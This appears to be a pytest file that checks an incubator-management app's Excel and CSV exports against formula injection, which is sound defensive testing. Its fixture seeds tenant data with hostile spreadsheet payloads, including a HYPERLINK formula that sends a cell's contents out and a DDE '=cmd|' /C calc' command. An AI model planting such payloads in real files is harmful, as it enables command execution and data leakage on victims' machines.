"""Every .xlsx and .csv the application produces is safe to open, whatever the data says.

Tenants named like formulas (=HYPERLINK(…), +86…, -2+3, @SUM) and text holding control
characters go through every export: the tenant register, quarterly figures, the rent roll,
the Torch return and the finance export of bills. No cell may come out as a live formula
(but the rent roll's own totals), no text may start with = + - @ unescaped, and no export
may fail on a character XML cannot hold. One writer does it: no other module writes
workbooks or CSV files.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from incubator_desk.core.vocabularies import LookupCategory, UnitKind
from incubator_desk.db import Database
from incubator_desk.models import KpiSnapshot, Person, Tenant
from incubator_desk.reports.dispatch import (
    ReportKind,
    ReportRequest,
    build_finance_export,
    build_report,
)
from incubator_desk.services import billing, exporting, spaces
from incubator_desk.services import settings as shared
from incubator_desk.services import tenants as svc
from incubator_desk.services.reporting import Period
from incubator_desk.services.spaces import AllocationInput, UnitInput
from incubator_desk.services.spreadsheets import FORMULA_PREFIXES

SRC = Path(__file__).resolve().parents[2] / "src" / "incubator_desk"
LINK = '=HYPERLINK("http://x"&A1,"y")'
HOSTILE = [LINK, "+86 138 0000 0000", "-2+3", "@SUM(A1:A9)", "\t=1+1", "云帆\x00科技\x07"]
OUR_FORMULA = re.compile(r"^=SUM\([A-Z]+\d+:[A-Z]+\d+\)$")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


@pytest.fixture
def hostile(db: Database) -> Database:
    """Tenants whose names, contacts and tags are formulas; old rows with control characters.

    Written straight to the database, as data imported before the checks existed would be.
    """
    shared.set_incubator_name(db, "=cmd|' /C calc'!A0", "@incubator", None)
    industry = svc.lookups(db, LookupCategory.INDUSTRY)[0].id
    # PostgreSQL text cannot hold a NUL at all; its old rows can carry the other controls.
    names = [n.replace("\x00", "") for n in HOSTILE] if db.dialect == "postgresql" else HOSTILE
    with db.uow() as uow:
        s = uow.session
        for n, name in enumerate(names):
            t = Tenant(
                name_zh=name,
                name_en=names[-1 - n],
                credit_code=f"91440300{n:09d}X"[:18],
                entry_date=dt.date(2025, 1, 1),
                industry_id=industry,
                park_address="-1F",
                notes="=1+2",
            )
            s.add(t)
            s.flush()
            s.add(Person(tenant_id=t.id, name="@张伟", phone="+8613800000000", email="=x@y"))
            s.add(
                KpiSnapshot(
                    tenant_id=t.id,
                    year=2025,
                    quarter=4,
                    revenue=Decimal(1000),
                    awards="=AWARD()",
                    notes="+note\x0b",
                )
            )
        uow.commit()
        tenant_ids = [t for (t,) in s.query(Tenant.id).order_by(Tenant.id)]
    site = spaces.save_site(db, None, "=园区")
    building = spaces.save_building(db, None, site, "+B2", "B2 栋")
    floor = spaces.save_floor(db, None, building, 3, "3层")
    for n, tid in enumerate(tenant_ids):
        unit = spaces.save_unit(
            db,
            None,
            floor,
            UnitInput(
                code=f"=030{n}",
                kind=UnitKind.OFFICE,
                area_m2=Decimal(100),
                list_rent=Decimal(90),
                plan_x=Decimal(n * 10),
                plan_w=Decimal(9),
                plan_h=Decimal(10),
            ),
        )
        spaces.allocate(db, AllocationInput(unit, tid, dt.date(2025, 1, 1), None))
    return db


def xlsx_cells(path: Path) -> Iterator[Any]:
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        yield ws.title
        for row in ws.iter_rows():
            yield from row


def check_xlsx(path: Path) -> list[str]:
    """The texts of the workbook, after checking no cell is a formula of the data's."""
    texts = []
    for cell in xlsx_cells(path):
        if isinstance(cell, str):  # a sheet's title
            texts.append(cell)
            continue
        value = cell.value
        if cell.data_type == "f":
            assert OUR_FORMULA.match(str(value)), f"{path.name} {cell.coordinate}: {value!r}"
            continue
        if isinstance(value, str):
            texts.append(value)
    check_texts(path, texts)
    return texts


def check_texts(path: Path, texts: list[str]) -> None:
    for text in texts:
        assert not text.startswith(FORMULA_PREFIXES), f"{path.name}: {text!r}"
        assert not CONTROL.search(text), f"{path.name}: {text!r}"


def check_csv(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        texts = [cell for row in csv.reader(fh) for cell in row]
    check_texts(path, texts)
    return texts


def test_every_export_is_safe_to_open(hostile: Database, tmp_path: Path) -> None:
    db = hostile
    seen: dict[str, list[str]] = {}
    for suffix in (".xlsx", ".csv"):
        for what, func in (
            ("tenants", exporting.export_tenants),
            ("figures", exporting.export_figures),
        ):
            out = tmp_path / f"{what}{suffix}"
            func(db, out)
            seen[out.name] = check_xlsx(out) if suffix == ".xlsx" else check_csv(out)
    rent_roll = tmp_path / "rent roll.xlsx"
    assert spaces.export_rent_roll(spaces.rent_roll(db, dt.date(2025, 6, 1)), rent_roll)
    seen[rent_roll.name] = check_xlsx(rent_roll)
    formulas = [c for c in xlsx_cells(rent_roll) if not isinstance(c, str) and c.data_type == "f"]
    assert len(formulas) == 4  # the totals, ours
    torch = tmp_path / "torch.xlsx"
    build_report(db, ReportRequest(ReportKind.TORCH, period=Period(2025)), torch)
    seen[torch.name] = check_xlsx(torch)
    billing.run_billing(db, dt.date(2025, 3, 1), dt.date(2025, 3, 1))
    finance = tmp_path / "finance.xlsx"
    build_finance_export(db, 2025, "zh", finance)
    seen[finance.name] = check_xlsx(finance)
    billing.run_billing(db, dt.date(2025, 6, 1), issued_on=dt.date(2025, 6, 1))
    finance = tmp_path / "finance.xlsx"
    build_finance_export(db, 2025, "zh", finance)
    seen[finance.name] = check_xlsx(finance)

    for name, texts in seen.items():
        if name.startswith(("figures", "finance")):
            continue
        assert "'" + LINK in texts, name  # the name is there, harmless
        assert "云帆科技" in texts, name  # the control characters dropped, the rest kept
    assert any(t.startswith("'=cmd") for t in seen["torch.xlsx"])
    assert "'=AWARD()" in seen["figures.csv"]
    assert "'" + LINK in seen["finance.xlsx"]  # the tenants billed, by name


def test_an_export_reimports_the_hostile_names_unchanged(hostile: Database, tmp_path: Path) -> None:
    from incubator_desk.services import importing as imp

    out = tmp_path / "tenants.xlsx"
    exporting.export_tenants(hostile, out)
    plan = imp.plan_import(
        hostile, imp.ImportKind.TENANTS, imp.read_sheet(out, imp.ImportKind.TENANTS)
    )
    names = {r.label for r in plan.reports}
    assert LINK in names and "-2+3" in names


def test_one_writer_writes_every_workbook_and_csv() -> None:
    writers = re.compile(
        r"csv\.(writer|DictWriter)\b|openpyxl\.Workbook\b|from openpyxl import [^\n]*\bWorkbook\b"
        r"|WriteOnlyCell"
    )
    found = sorted(
        str(p.relative_to(SRC))
        for p in SRC.rglob("*.py")
        if writers.search(p.read_text(encoding="utf-8"))
    )
    assert found == ["services/spreadsheets.py"]
